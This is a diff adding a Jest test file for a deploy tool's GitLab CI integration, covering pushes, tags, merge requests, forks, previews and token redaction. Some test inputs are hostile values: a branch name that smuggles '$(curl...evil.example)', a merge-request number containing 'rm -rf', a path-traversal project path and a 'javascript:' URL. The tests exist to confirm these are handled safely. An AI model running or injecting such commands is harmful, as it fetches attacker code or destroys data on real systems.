@@ -1,0 +1,215 @@
+import { describe, expect, test } from '@jest/globals'
+import { isGitLab, readGitLab, readGitLabContext } from '../../../src/ci/gitlab.js'
+import { createGitHubSide } from '../../../src/github-records/github-side.js'
+import { COMMIT_A, COMMIT_B } from '../../support/fakes/answers.js'
+import { GOOD, problemsOf, read, readDeploy } from '../../support/fakes/inputs.js'
+
+type Variables = Record<string, string>
+
+const PIPELINE: Variables = {
+  GITLAB_CI: 'true',
+  CI_SERVER_URL: 'https://gitlab.example:8443',
+  CI_PROJECT_PATH: 'acme/agents/support',
+  CI_PROJECT_URL: 'https://gitlab.example:8443/acme/agents/support',
+  CI_REPOSITORY_URL: 'https://gitlab-ci-token:glcbt-64_secret@gitlab.example:8443/acme/agents/support.git',
+  CI_COMMIT_SHA: COMMIT_A,
+  CI_JOB_URL: 'https://gitlab.example:8443/acme/agents/support/-/jobs/7',
+  CI_COMMIT_REF_NAME: 'main'
+}
+const branch = (over: Variables = {}): Variables => ({
+  ...PIPELINE,
+  CI_PIPELINE_SOURCE: 'push',
+  CI_COMMIT_BRANCH: 'main',
+  ...over
+})
+const merge = (over: Variables = {}): Variables => ({
+  ...PIPELINE,
+  CI_PIPELINE_SOURCE: 'merge_request_event',
+  CI_COMMIT_REF_NAME: 'feature/x',
+  CI_MERGE_REQUEST_IID: '12',
+  CI_MERGE_REQUEST_EVENT_TYPE: 'detached',
+  CI_MERGE_REQUEST_PROJECT_PATH: 'acme/agents/support',
+  CI_MERGE_REQUEST_SOURCE_PROJECT_PATH: 'acme/agents/support',
+  CI_MERGE_REQUEST_SOURCE_BRANCH_NAME: 'feature/x',
+  CI_MERGE_REQUEST_SOURCE_BRANCH_SHA: '',
+  ...over
+})
+const FORK = { CI_MERGE_REQUEST_SOURCE_PROJECT_PATH: 'someone/support' }
+const HERE = 'https://gitlab.example:8443/acme/agents/support'
+
+/** The name and the code that a deploy in this pipeline has. */
+function deployed(variables: Variables, inputs: Record<string, string> = {}) {
+  const { target, wanted, claim } = readDeploy({ ...GOOD, ...inputs }, readGitLabContext(variables))
+  if (wanted.source !== 'git_host') throw new Error('The code comes from git.')
+  const { commit, is_push_to_ref = false } = wanted
+  const [url, ref] = [wanted.source_config.repo_url, wanted.source_revision_config.repo_ref]
+  return { code: [target.name, url, ref, commit, is_push_to_ref], claims: claim?.repositories }
+}
+
+const preview = { preview: 'true' }
+
+test.each<[string, Variables, Record<string, string>, unknown[]]>([
+  ['a push', branch(), {}, ['support', HERE, 'main', COMMIT_A, true]],
+  ['a schedule', branch({ CI_PIPELINE_SOURCE: 'schedule' }), {}, ['support', HERE, 'main', COMMIT_A, false]],
+  [
+    'a tag',
+    { ...branch({ CI_COMMIT_TAG: 'v1.0.0' }), CI_COMMIT_BRANCH: '' },
+    {},
+    ['support', HERE, 'refs/tags/v1.0.0', COMMIT_A, false]
+  ],
+  ['a merge request', merge(), preview, ['support-mr-12', HERE, 'feature/x', COMMIT_A, false]],
+  [
+    'a merged result: the commit of the branch, and not the one of the pipeline',
+    merge({ CI_MERGE_REQUEST_EVENT_TYPE: 'merged_result', CI_MERGE_REQUEST_SOURCE_BRANCH_SHA: COMMIT_B }),
+    preview,
+    ['support-mr-12', HERE, 'feature/x', COMMIT_B, false]
+  ],
+  [
+    'a merge train that does not show the commit of the branch',
+    merge({ CI_MERGE_REQUEST_EVENT_TYPE: 'merge_train' }),
+    preview,
+    ['support-mr-12', HERE, 'feature/x', undefined, false]
+  ],
+  [
+    'a child pipeline of a merge request',
+    merge({ CI_PIPELINE_SOURCE: 'parent_pipeline' }),
+    preview,
+    ['support-mr-12', HERE, 'feature/x', COMMIT_A, false]
+  ],
+  [
+    'a fork',
+    merge(FORK),
+    preview,
+    ['support-mr-12', 'https://gitlab.example:8443/someone/support', 'feature/x', COMMIT_A, false]
+  ],
+  [
+    'a server below a path',
+    branch({ CI_SERVER_URL: 'https://example.org/gitlab/' }),
+    {},
+    ['support', 'https://example.org/gitlab/acme/agents/support', 'main', COMMIT_A, true]
+  ],
+  [
+    'a branch that is named like a command',
+    merge({ CI_MERGE_REQUEST_SOURCE_BRANCH_NAME: '$(curl${IFS}evil.example);`x`' }),
+    preview,
+    ['support-mr-12', HERE, '$(curl${IFS}evil.example);`x`', COMMIT_A, false]
+  ],
+  ['no commit yet', branch({ CI_COMMIT_SHA: '0'.repeat(40) }), {}, ['support', HERE, 'main', undefined, false]]
+])('what is deployed by %s', (_case, variables, inputs, code) => {
+  expect(deployed(variables, inputs).code).toEqual(code)
+})
+
+test.each<[string, Variables, Record<string, string>, RegExp]>([
+  [
+    'a branch that the service would read as a tag',
+    merge({ CI_MERGE_REQUEST_SOURCE_BRANCH_NAME: 'refs/tags/v1' }),
+    preview,
+    /^repo_ref: is not set, and the service would read the branch name refs\/tags\/v1 as another ref/
+  ],
+  ['a merge request without a choice', merge(), {}, /^preview: is not set, and this is a pull request/],
+  ['a merge request with a broken number', merge({ CI_MERGE_REQUEST_IID: '12; rm -rf' }), {}, /^preview: is not set/],
+  [
+    'a number that is none',
+    merge({ CI_MERGE_REQUEST_IID: '0' }),
+    preview,
+    /^preview: is true, but this run \(event merge_request_event\)/
+  ],
+  ['a push with preview', branch(), preview, /^preview: is true, but this run \(event push\) does not belong/],
+  [
+    'a pull request of another git host',
+    branch({ CI_EXTERNAL_PULL_REQUEST_IID: '4', CI_PIPELINE_SOURCE: 'external_pull_request_event' }),
+    {},
+    /^preview: is not set/
+  ],
+  [
+    'the same, of an image',
+    branch({ CI_EXTERNAL_PULL_REQUEST_IID: '4', CI_PIPELINE_SOURCE: 'external_pull_request_event' }),
+    { preview: 'false' },
+    /^repo_ref: is not set, and this pipeline belongs to a pull request of another git host/
+  ],
+  ['a project that is no path', branch({ CI_PROJECT_PATH: 'acme/../../support?x' }), {}, /^repo_url: is not set/],
+  ['no key', branch(), { api_key: '' }, /^api_key: .*A protected variable exists only on protected branches/],
+  ['a sweep without an age', branch(), { command: 'sweep' }, /^max_age: is required here/]
+])('%s is a problem', (_case, variables, inputs, problem) => {
+  const problems = problemsOf({ ...GOOD, ...inputs }, readGitLabContext(variables))
+  expect(problems.join('\n')).toMatch(new RegExp(problem.source, 'm'))
+})
+
+describe('a delete of a preview', () => {
+  test('needs no more than the variables of the merge request', () => {
+    const request = read(
+      { ...GOOD, command: 'delete', preview: 'true', graph_config_path: '' },
+      readGitLabContext(merge(FORK))
+    )
+    expect(request).toMatchObject({
+      command: 'delete',
+      target: { name: 'support-mr-12' },
+      closing: undefined,
+      ownership: { if_foreign: 'keep', claim: { repositories: [HERE, 'https://gitlab.example:8443/someone/support'] } }
+    })
+  })
+})
+
+test('a fork without a credential is skipped, not failed', () => {
+  const request = read({ ...GOOD, api_key: '', preview: 'true' }, readGitLabContext(merge(FORK)))
+  expect(request).toMatchObject({ command: 'skip' })
+})
+
+test('the token of the job is in no fact of the run', () => {
+  expect(JSON.stringify(readGitLabContext(merge({ CI_JOB_TOKEN: 'glcbt-64_secret' })))).not.toContain('glcbt')
+})
+
+test.each<[string, Variables, object]>([
+  [
+    'an address with a user',
+    { CI_SERVER_URL: 'https://user:pass@gitlab.example' },
+    { server_url: 'https://gitlab.com' }
+  ],
+  ['a page that is none', { CI_JOB_URL: 'javascript:alert(1)' }, { run_url: undefined }],
+  [
+    'nothing at all',
+    {},
+    { server_url: 'https://gitlab.com', repository: undefined, ref: undefined, pull_request: undefined }
+  ]
+])('%s is ignored', (_case, variables, facts) => {
+  expect(readGitLabContext(variables)).toMatchObject(facts)
+})
+
+test('GitHub is not asked, whatever token is set', async () => {
+  const context = readGitLabContext(merge())
+  const request = read({ ...GOOD, ...preview, github_token: 'ghp_of_another_job', comment: 'true' }, context)
+  if (request.command === 'skip') throw new Error('The run is skipped.')
+  const opened: unknown[] = []
+  const side = createGitHubSide({
+    request,
+    context,
+    open: async (account) => {
+      opened.push(account)
+      throw new Error('GitHub is not to be asked.')
+    },
+    emit: (event) => opened.push(event),
+    redactAll: (value) => value,
+    now: () => 0
+  })
+  expect(await side.recall('support-mr-12')).toBeNull()
+  expect(await side.readPullRequest(12)).toBeUndefined()
+  expect(await side.listChangedFiles({ from: COMMIT_A, to: COMMIT_B })).toMatchObject({ unknown: expect.any(String) })
+  expect(opened).toEqual([])
+})
+
+test.each([
+  [{ GITLAB_CI: 'true' }, true],
+  [{ GITLAB_CI: 'false' }, false],
+  [{ CI: 'true' }, false]
+])('%j is GitLab: %s', (variables, is) => {
+  expect(isGitLab(variables)).toBe(is)
+})
+
+test('a group folds in the log of the job', () => {
+  const { reports } = readGitLab({ environment: {}, now: () => 1_700_000_000_400 })
+  const lines = [reports.group?.('Build log', 'one\ntwo'), reports.group?.('More', 'three')]
+  expect(lines).toEqual([
+    '\u001b[0Ksection_start:1700000000:deploy_agent_server_1[collapsed=true]\r\u001b[0KBuild log\none\ntwo\n\u001b[0Ksection_end:1700000000:deploy_agent_server_1\r\u001b[0K',
+    expect.stringContaining('deploy_agent_server_2')
+  ])
+})
